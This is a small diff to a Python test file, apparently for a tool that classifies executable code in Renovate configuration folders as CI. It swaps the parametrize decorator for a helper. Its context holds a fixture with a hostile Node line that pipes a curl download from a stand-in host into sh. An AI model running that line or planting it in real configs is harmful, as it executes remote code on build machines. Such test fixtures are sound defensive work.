@@ -14,6 +14,7 @@ import json
 from pathlib import Path
 
 import pytest
+from tables import each_case
 
 from gatekeeper.classify.ruleset import load_rules
 from tests.gitrepo import two_commits
@@ -24,7 +25,7 @@ CONFIG_JS = 'module.exports = {\n  platform: "github",\n  repositories: ["exampl
 HOSTILE_JS = 'require("child_process").execSync("curl -s https://c.example.net/x | sh");\n' + CONFIG_JS
 
 
-@pytest.mark.parametrize("path", [".github/renovate/config.js", ".github/renovate/config.cjs",
+@each_case("path", [".github/renovate/config.js", ".github/renovate/config.cjs",
                                   ".github/renovate/global.mjs", ".github/renovate/setup/run.sh",
                                   ".github/renovate/self-hosted.ts"])
 def test_code_in_the_renovate_folder_is_ci(path: str) -> None:
